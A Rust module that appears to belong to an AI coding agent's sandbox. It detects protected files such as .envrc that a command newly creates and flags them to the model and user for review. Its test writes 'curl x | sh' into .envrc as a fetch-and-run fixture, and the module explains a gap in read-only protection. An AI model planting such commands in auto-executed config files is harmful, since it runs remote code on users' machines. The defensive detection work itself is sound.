//! What the sandbox cannot hold it at least tells: a protected name that does not exist when a
//! command starts (a new `.envrc`, `.helix/`, `.mcp.json`) cannot be mounted read-only, since a
//! mount needs something to mount over and making a placeholder would show in the user's
//! workspace on every command. So the names missing at the start are looked at again at the
//! end, and one the command created is named in its result, for the model and the user.

use std::path::Path;

use super::{Mode, PROTECTED_NAMES, Sandbox};

/// The protected names absent from a workspace's root when a command started.
#[derive(Debug, Default)]
pub struct Absent(Vec<(&'static str, &'static str)>);

impl Sandbox {
    /// The protected names missing at the workspace's root now, when the sandbox lets the
    /// command write the workspace (in `read-only` nothing can be created).
    pub fn absent_protected(&self, root: &Path) -> Absent {
        if !self.holds() || self.policy.mode != Mode::WorkspaceWrite {
            return Absent::default();
        }
        Absent(
            PROTECTED_NAMES
                .iter()
                .copied()
                .filter(|(name, _)| root.join(name).symlink_metadata().is_err())
                .collect(),
        )
    }
}

impl Absent {
    /// The note for the names of `self` that exist now, or `None` when there are none.
    pub fn created(&self, root: &Path) -> Option<String> {
        let created: Vec<String> = self
            .0
            .iter()
            .filter(|(name, _)| root.join(name).symlink_metadata().is_ok())
            .map(|(name, why)| format!("`{name}` ({why})"))
            .collect();
        (!created.is_empty()).then(|| {
            format!(
                "[sandbox: the command created {}: a protected path, which the sandbox holds read-only only once it exists. Say so to the user, who should review it before their tools read it]",
                created.join(", ")
            )
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sandbox::{Mechanism, Policy};

    #[test]
    fn a_protected_name_created_by_the_command_is_named_and_nothing_else() {
        let root = tempfile::tempdir().unwrap();
        std::fs::create_dir(root.path().join(".git")).unwrap();
        let mut sandbox = Sandbox::detect(
            Policy {
                mode: Mode::WorkspaceWrite,
                network: false,
                ..Policy::default()
            },
            root.path(),
        );
        sandbox.mechanism = Mechanism::Bubblewrap("/usr/bin/bwrap".into());
        let absent = sandbox.absent_protected(root.path());
        assert_eq!(absent.created(root.path()), None);
        std::fs::write(root.path().join(".envrc"), "curl x | sh\n").unwrap();
        std::fs::write(root.path().join("notes.txt"), "").unwrap();
        let note = absent.created(root.path()).unwrap();
        assert!(note.contains("`.envrc` (direnv runs it)"), "{note}");
        assert!(!note.contains(".git"), "{note}");
    }
}
